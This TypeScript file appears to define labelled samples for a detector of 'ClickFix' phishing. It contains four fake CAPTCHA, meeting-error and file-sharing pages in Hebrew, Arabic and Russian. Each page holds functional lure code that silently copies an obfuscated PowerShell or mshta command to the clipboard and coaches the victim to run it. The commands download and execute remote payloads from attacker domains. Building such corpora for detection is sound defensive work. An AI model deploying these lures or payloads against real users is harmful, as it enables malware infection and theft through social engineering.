import { htmlRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute } from '../parts/e-bin.js';
import { FONT_AR, FONT_HE, LOGO, b64, codes, doc, psEnc, reverse } from '../parts/yu-kit.js';

// ClickFix: fake CAPTCHAs and "fix it" dialogs that put a command on the clipboard and walk the
// visitor through Win+R / Terminal / File Explorer to run it. Hebrew, Arabic, Russian and English.

export const entries: Entry[] = [
{
  id: 'yu-clickfix-hebrew-captcha-mshta',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://verify-human.il-check.top/he/captcha/?r=ynet',
  body: doc({
    title: 'אימות אנושי',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#f9fafb}.w{max-width:420px;margin:80px auto;background:#fff;border:1px solid #d1d5db;border-radius:6px;padding:20px}
.cb{display:flex;align-items:center;gap:12px;border:1px solid #d1d5db;padding:14px;border-radius:4px;background:#f9f9f9;cursor:pointer}.cb .b{width:26px;height:26px;border:2px solid #c1c1c1;background:#fff}
.st{display:none;margin-top:18px;line-height:2}.st.on{display:block}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:monospace}.sm{font-size:11px;color:#888;text-align:left}`,
    body: `<div class="w"><h3>נא לאשר שאינך רובוט כדי להמשיך</h3>
<div class="cb" id="cb"><div class="b"></div><span>אני לא רובוט</span><span style="margin-right:auto;font-size:10px;color:#999">reCAPTCHA<br>פרטיות - תנאים</span></div>
<div class="st" id="st"><b>שלבי אימות נוספים:</b><br>1. לחצו על <kbd>⊞ Win</kbd> + <kbd>R</kbd><br>2. לחצו על <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. לחצו על <kbd>Enter</kbd> לסיום האימות
<p style="font-size:13px;color:#555">פעולה זו מאמתת שהדפדפן שלך אינו נשלט על ידי בוט.</p></div><p class="sm">Ray ID: 8c1f4a77e2b0</p></div>
<script>
var c=${JSON.stringify('mshta https://verify-human.il-check.top/he/captcha/v.hta # ✅ אני לא רובוט - מזהה אימות: 4477-21')};
document.getElementById("cb").onclick=function(){var t=document.createElement("textarea");t.value=c;document.body.appendChild(t);t.select();document.execCommand("copy");t.remove();
this.querySelector(".b").style.background="#4285f4";document.getElementById("st").classList.add("on")};
</script>`,
  }),
  routes: {
    'verify-human.il-check.top/he/captcha/v.hta': fileRoute(
      `<html><head><HTA:APPLICATION WINDOWSTATE="minimize"/><script language="JScript">var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -nop -enc ${psEnc("iex(irm 'https://verify-human.il-check.top/he/captcha/s2.ps1')")}",0);window.close();</script></head></html>`,
      'application/hta',
    ),
  },
},
{
  id: 'yu-clickfix-arabic-cloudflare-charcodes',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://akhbar-alkhaleej-today.com/cdn-cgi/challenge/verify',
  body: doc({
    title: 'لحظة من فضلك...',
    lang: 'ar',
    css: `body{margin:0;font-family:${FONT_AR};background:#fff;color:#313131}.m{max-width:640px;margin:10% auto 0;padding:0 20px}h1{font-size:30px;font-weight:500}
.tb{border:1px solid #e0e0e0;background:#fafafa;padding:14px 18px;display:flex;align-items:center;justify-content:space-between;width:300px}.tb input{width:24px;height:24px}
#m2{display:none;border:1px solid #f38020;padding:16px;margin-top:18px;line-height:2}.ft{margin-top:60px;font-size:12px;color:#777;border-top:1px solid #eee;padding-top:10px;direction:ltr}`,
    body: `<div class="m"><h1>akhbar-alkhaleej-today.com</h1><p>التحقق من أنك إنسان. قد يستغرق هذا بضع ثوانٍ.</p>
<div class="tb"><label><input type="checkbox" id="ck"> تحقق من أنك إنسان</label>${LOGO.cloudflare}</div>
<div id="m2"><b>فشل التحقق. لإكمال التحقق يدوياً:</b><br>① اضغط على مفتاح Windows + R<br>② اضغط Ctrl + V للصق رمز التحقق<br>③ اضغط Enter</div>
<div class="ft">Ray ID: 8d2b71c0fa3e52a1 · Performance &amp; security by Cloudflare</div></div>
<script>
var z=[${codes('powershell -w 1 -ep bypass -c "$w=New-Object Net.WebClient;$w.Headers.Add(\'UA\',\'cf\');iex $w.DownloadString(\'https://cf-verify-gate.com/ar/p.txt\')" # Cloudflare Verification ID: 58213')}];
document.getElementById("ck").addEventListener("change",function(){var s=String.fromCharCode.apply(null,z);navigator.clipboard.writeText(s).then(function(){},function(){});
setTimeout(function(){document.getElementById("m2").style.display="block"},700)});
</script>`,
  }),
},
{
  id: 'yu-clickfix-meet-microphone-ru',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://meet-google.ru-conf.live/xqb-mdta-wrk',
  body: doc({
    title: 'Meet – xqb-mdta-wrk',
    lang: 'ru',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:'Google Sans',Roboto,Arial}.v{display:flex;justify-content:center;padding-top:60px}.tile{width:560px;height:315px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;font-size:60px}
.m{position:fixed;top:20%;left:50%;transform:translateX(-50%);background:#fff;color:#202124;width:460px;border-radius:8px;padding:24px;box-shadow:0 4px 20px rgba(0,0,0,.6)}
.m button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px}ol{line-height:1.9}`,
    body: `<div class="v"><div class="tile">🎙️🚫</div></div>
<div class="m"><h3>Проблема с доступом к микрофону</h3><p>Ваш браузер не может получить доступ к микрофону и камере. Другие участники вас не слышат.</p>
<button id="b">Исправить</button><ol id="o" style="display:none"><li>Нажмите <b>Win + R</b></li><li>Нажмите <b>Ctrl + V</b></li><li>Нажмите <b>Enter</b>, затем вернитесь на встречу</li></ol></div>
<script>
var q=atob("${b64(reverse('powershell -w h -c "iex(irm https://meet-google.ru-conf.live/fix/audio.ps1)" # Устранение неполадок со звуком Google Meet'))}");
document.getElementById("b").onclick=function(){var s=decodeURIComponent(escape(q)).split("").reverse().join("");navigator.clipboard.writeText(s);document.getElementById("o").style.display="block";this.style.display="none"};
</script>`,
  }),
},
{
  id: 'yu-clickfix-filefix-explorer-hebrew',
  label: 'clickfix',
  kind: 'clickfix-filefix',
  url: 'https://shared-files-hr.onedrive-il.cloud/s/HR_Policy_2026',
  body: doc({
    title: 'קובץ שותף איתך - מדיניות משאבי אנוש 2026',
    lang: 'he',
    css: `body{margin:0;font-family:'Segoe UI',${FONT_HE};background:#faf9f8}.c{max-width:520px;margin:60px auto;background:#fff;padding:26px;border:1px solid #e1dfdd}
.pth{direction:ltr;background:#f3f2f1;padding:8px;font-family:Consolas,monospace;font-size:13px;border:1px solid #c8c6c4}button{background:#0078d4;color:#fff;border:0;padding:9px 20px}ol{line-height:1.9}`,
    body: `<div class="c">${LOGO.microsoft}<h3>HR_Policy_2026.docx שותף איתך</h3><p>כדי לגשת לקובץ, פתחו אותו מסייר הקבצים (File Explorer):</p>
<ol><li>העתיקו את נתיב הקובץ:</li></ol><div class="pth">C:\\company\\internal-secure\\filedrive\\HRPolicy.docx</div>
<ol start="2"><li>לחצו על "פתח סייר קבצים" למטה</li><li>בחלון שנפתח, לחצו <b>Ctrl + L</b>, הדביקו (<b>Ctrl + V</b>) ולחצו <b>Enter</b></li></ol>
<button id="cp">העתק נתיב</button> <button id="ex">פתח סייר קבצים</button><input type="file" id="fi" style="display:none"></div>
<script>
var pad="                                                                                                    ";
var cmd="powershell -w h -c \\"iwr https://shared-files-hr.onedrive-il.cloud/s/d.bin -OutFile $env:TEMP\\\\d.exe; & $env:TEMP\\\\d.exe\\""+pad+"# C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx";
document.getElementById("cp").onclick=function(){navigator.clipboard.writeText(cmd)};
document.getElementById("ex").onclick=function(){navigator.clipboard.writeText(cmd);document.getElementById("fi").click()};
</script>`,
  }),
},
];
